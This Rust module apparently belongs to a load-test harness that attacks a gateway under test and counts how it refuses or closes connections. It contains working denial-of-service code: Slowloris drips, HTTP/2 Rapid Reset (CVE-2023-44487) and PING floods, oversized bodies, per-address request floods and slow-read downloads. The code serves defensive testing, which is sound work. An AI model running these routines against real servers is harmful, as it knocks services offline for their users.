//! What attackers do, each over and over: a connection that the gateway closes is opened again.

use std::cell::Cell;
use std::net::IpAddr;
use std::rc::Rc;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use anyhow::{Context as _, Result};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::{Plan, address, block_on};

/// Preface and empty SETTINGS.
const H2: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// GET, http, `/never`, authority `a`.
const FIELDS: &[u8] = b"\x82\x86\x04\x06/never\x01\x01a";
/// Between two steps of an attack that floods.
const STEP: Duration = Duration::from_millis(50);
/// Between two bytes of one that drips.
const DRIP: Duration = Duration::from_secs(1);

/// What the attackers saw.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Counts {
    /// Slow connections open at the end.
    pub slow_open: u64,
    /// Slow connections that the gateway closed.
    pub slow_closed: u64,
    /// HTTP/2 connections of rapid resets that it closed.
    pub resets_closed: u64,
    /// HTTP/2 connections of PING floods that it closed.
    pub pings_closed: u64,
    /// Requests whose client vanished at once.
    pub vanished: u64,
    /// Bodies over the bound that got 413.
    pub big_refused: u64,
    /// Requests over the rate of an address that got 429.
    pub flood_refused: u64,
    /// Downloads that were cut for reading next to nothing.
    pub readers_cut: u64,
}

type Shared = Rc<Cell<Counts>>;

fn count(counts: &Shared, add: impl FnOnce(&mut Counts)) {
    let mut now = counts.get();
    add(&mut now);
    counts.set(now);
}

pub(super) fn run(plan: &Plan, is_stopped: &Arc<AtomicBool>) -> Result<Counts> {
    block_on(async {
        let counts = Shared::default();
        let mut attackers = JoinSet::new();
        for index in 0..plan.slow {
            attackers.spawn_local(drip(plan.clone(), index, Rc::clone(&counts)));
        }
        attackers.spawn_local(rapid_resets(plan.clone(), Rc::clone(&counts)));
        attackers.spawn_local(pings(plan.clone(), Rc::clone(&counts)));
        attackers.spawn_local(vanish(plan.clone(), Rc::clone(&counts)));
        attackers.spawn_local(big_bodies(plan.clone(), Rc::clone(&counts)));
        attackers.spawn_local(flood(plan.clone(), Rc::clone(&counts)));
        for _ in 0..8 {
            attackers.spawn_local(read_nothing(plan.clone(), Rc::clone(&counts)));
        }
        while !is_stopped.load(Ordering::Relaxed) {
            tokio::select! {
                () = sleep(STEP) => {}
                Some(ended) = attackers.join_next() => ended.context("an attacker panicked")?,
            }
        }
        Ok(counts.get())
    })?
}

async fn connect(to: std::net::SocketAddr, from: Option<IpAddr>) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if let Some(from) = from {
        socket.bind((from, 0).into())?;
    }
    socket.connect(to).await
}

/// Slowloris: half a head on the plain listener, half a ClientHello on the one with TLS, then a byte a second.
async fn drip(plan: Plan, index: u16, counts: Shared) {
    let (to, first, more): (_, &[u8], &[u8]) = if index.is_multiple_of(2) {
        (plan.plain, b"GET /count HTTP/1.1\r\nX-Slow: ", b"a")
    } else {
        (plan.tls, b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03", b"\0")
    };
    sleep(DRIP.mul_f64(f64::from(index % 100) / 100.0)).await; // not all in one moment
    loop {
        let Ok(mut stream) = connect(to, address(0, index)).await else {
            sleep(DRIP).await;
            continue;
        };
        count(&counts, |counts| counts.slow_open += 1);
        drop(stream.write_all(first).await);
        let mut buffer = [0; 512];
        loop {
            // An answer (408) is followed by the end.
            tokio::select! {
                read = stream.read(&mut buffer) => if !matches!(read, Ok(1..)) { break },
                () = sleep(DRIP) => if stream.write_all(more).await.is_err() { break },
            }
        }
        count(&counts, |counts| {
            counts.slow_open -= 1;
            counts.slow_closed += 1;
        });
    }
}

/// Writes `next()` in steps until the gateway ends the connection.
async fn until_closed(stream: TcpStream, mut next: impl FnMut() -> Vec<u8>) {
    let (mut read, mut write) = stream.into_split();
    let mut buffer = [0; 4096];
    loop {
        let writing = async {
            sleep(STEP).await;
            write.write_all(&next()).await
        };
        tokio::pin!(writing);
        let is_over = loop {
            tokio::select! {
                received = read.read(&mut buffer) => if !matches!(received, Ok(1..)) { break true },
                written = &mut writing => break written.is_err(),
            }
        };
        if is_over {
            return;
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), content].concat()
}

/// CVE-2023-44487: streams that are reset as soon as they are open.
async fn rapid_resets(plan: Plan, counts: Shared) {
    loop {
        if let Ok(mut stream) = connect(plan.plain, address(0, u16::MAX - 2)).await {
            drop(stream.write_all(H2).await);
            let mut id = 1_u32;
            let next = || {
                let mut bytes = Vec::new();
                for _ in 0..50 {
                    bytes.extend(frame(1, 5, id, FIELDS));
                    bytes.extend(frame(3, 0, id, &8_u32.to_be_bytes()));
                    id += 2;
                }
                bytes
            };
            until_closed(stream, next).await;
            count(&counts, |counts| counts.resets_closed += 1);
        }
        sleep(STEP).await;
    }
}

/// CVE-2019-9512.
async fn pings(plan: Plan, counts: Shared) {
    loop {
        if let Ok(mut stream) = connect(plan.plain, address(0, u16::MAX - 3)).await {
            drop(stream.write_all(H2).await);
            until_closed(stream, || frame(6, 0, 0, &[0; 8]).repeat(200)).await;
            count(&counts, |counts| counts.pings_closed += 1);
        }
        sleep(STEP).await;
    }
}

/// Asks for what takes for ever and is gone.
async fn vanish(plan: Plan, counts: Shared) {
    loop {
        if let Ok(mut stream) = connect(plan.plain, address(0, u16::MAX - 4)).await {
            drop(stream.write_all(b"GET /never HTTP/1.1\r\nHost: a\r\n\r\n").await);
            sleep(STEP).await;
            count(&counts, |counts| counts.vanished += 1);
        }
    }
}

/// Says a length over the bound, or sends more than it.
async fn big_bodies(plan: Plan, counts: Shared) {
    let declared = b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 100000000\r\n\r\n".to_vec();
    let mut chunked = b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
    for _ in 0..40 {
        chunked.extend_from_slice(b"8000\r\n");
        chunked.extend_from_slice(&[b'x'; 0x8000]);
        chunked.extend_from_slice(b"\r\n");
    }
    for request in [declared, chunked].iter().cycle() {
        if let Ok(stream) = connect(plan.plain, address(0, u16::MAX - 5)).await {
            let (mut read, mut write) = stream.into_split();
            let mut answer = Vec::new();
            let (_, _) = tokio::join!(write.write_all(request), read.read_to_end(&mut answer));
            if answer.starts_with(b"HTTP/1.1 413") {
                count(&counts, |counts| counts.big_refused += 1);
            }
        }
        sleep(STEP).await;
    }
}

/// More requests from one address than it may send.
async fn flood(plan: Plan, counts: Shared) {
    let batch = b"GET /count HTTP/1.1\r\nHost: a\r\n\r\n".repeat(150);
    loop {
        let Ok(stream) = connect(plan.plain, address(0, u16::MAX - 6)).await else { continue };
        let (mut read, mut write) = stream.into_split();
        let writing = async {
            while write.write_all(&batch).await.is_ok() {
                sleep(STEP).await;
            }
        };
        let reading = async {
            let mut buffer = vec![0; 64 * 1024];
            while let Ok(length @ 1..) = read.read(&mut buffer).await {
                let answers = String::from_utf8_lossy(buffer.get(..length).unwrap_or_default());
                count(&counts, |counts| counts.flood_refused += answers.matches("HTTP/1.1 429").count() as u64);
            }
        };
        tokio::select! {
            () = writing => {}
            () = reading => {}
        }
        sleep(STEP).await;
    }
}

/// Asks for much and takes next to nothing of it.
async fn read_nothing(plan: Plan, counts: Shared) {
    loop {
        if let Ok(mut stream) = connect(plan.plain, address(0, u16::MAX - 7)).await {
            drop(stream.write_all(b"GET /download?268435456 HTTP/1.1\r\nHost: a\r\n\r\n").await);
            let mut buffer = [0; 16];
            while let Ok(1..) = stream.read(&mut buffer).await {
                sleep(DRIP).await;
                // What the kernel holds for us says nothing of the gateway: writing does, once it has closed.
                if stream.write_all(b"\r\n").await.is_err() {
                    break;
                }
            }
            count(&counts, |counts| counts.readers_cut += 1);
        }
        sleep(DRIP).await;
    }
}
